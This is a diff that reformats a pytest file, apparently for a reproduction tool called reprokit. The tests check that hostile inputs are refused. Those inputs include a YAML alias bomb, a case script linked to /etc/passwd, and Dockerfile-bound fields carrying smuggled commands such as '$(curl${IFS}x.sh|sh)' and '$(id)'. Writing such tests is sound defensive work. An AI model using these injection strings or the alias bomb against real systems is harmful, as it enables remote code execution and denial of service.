@@ -1,5 +1,6 @@
 """Hostile input files: a YAML alias bomb, links out of cases/, shell and quote characters bound for a Dockerfile.
 Each is refused in one short line, and a bad case does not stop `list` (nor `run`) for the others."""
+
 import shutil
 import subprocess
 import sys
@@ -16,7 +17,9 @@ ROOT = Path(__file__).resolve().parents[1]
 GOOD = ROOT / "cases" / "custom-op-unregistered-gemm" / "case.yaml"
 BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
     f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
-    f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n" for i in range(8))
+    f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n"
+    for i in range(8)
+)
 
 
 def corpus(tmp_path):
@@ -29,8 +32,13 @@ def corpus(tmp_path):
 
 
 def reprokit(tmp_path, *args):
-    return subprocess.run([sys.executable, "-m", "reprokit", "--root", str(tmp_path), *args], capture_output=True,
-                          text=True, env={"PYTHONPATH": str(ROOT / "tools")}, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "reprokit", "--root", str(tmp_path), *args],
+        capture_output=True,
+        text=True,
+        env={"PYTHONPATH": str(ROOT / "tools")},
+        timeout=120,
+    )
 
 
 def test_an_alias_bomb_in_case_yaml_is_refused_in_one_short_line(tmp_path):
@@ -65,8 +73,13 @@ def test_a_case_folder_linked_from_outside_and_a_script_linked_to_etc_passwd_are
     assert proc.returncode == 2 and proc.stderr.count("skipped") == 2
 
 
-@pytest.mark.parametrize("field, value", [("index_url", "https://download.pytorch.org/whl/cpu;$(curl${IFS}x.sh|sh)"),
-                                          ("description", 'CPU" org.evil="$(id)')])
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("index_url", "https://download.pytorch.org/whl/cpu;$(curl${IFS}x.sh|sh)"),
+        ("description", 'CPU" org.evil="$(id)'),
+    ],
+)
 def test_matrix_strings_bound_for_a_dockerfile_refuse_shell_and_quote_characters(tmp_path, field, value):
     matrix = yaml.safe_load((ROOT / "matrix.yaml").read_text())
     target = matrix["targets"]["cpu"]
@@ -78,9 +91,28 @@ def test_matrix_strings_bound_for_a_dockerfile_refuse_shell_and_quote_characters
 
 def test_container_mode_fails_instead_of_falling_back_to_the_host_when_docker_does_not_answer(tmp_path):
     corpus(tmp_path)
-    proc = subprocess.run([sys.executable, "-m", "reprokit", "--root", str(tmp_path), "run", "--container",
-                           "--target", "cpu", "--out", str(tmp_path / "out")], capture_output=True, text=True,
-                          timeout=120, env={"PYTHONPATH": str(ROOT / "tools"), "PATH": "/usr/bin:/bin",
-                                            "DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock"})
+    proc = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "reprokit",
+            "--root",
+            str(tmp_path),
+            "run",
+            "--container",
+            "--target",
+            "cpu",
+            "--out",
+            str(tmp_path / "out"),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={
+            "PYTHONPATH": str(ROOT / "tools"),
+            "PATH": "/usr/bin:/bin",
+            "DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock",
+        },
+    )
     assert proc.returncode == 3 and "no Docker engine answers" in proc.stderr  # the machine, not the input
     assert not (tmp_path / "out" / "results").exists()
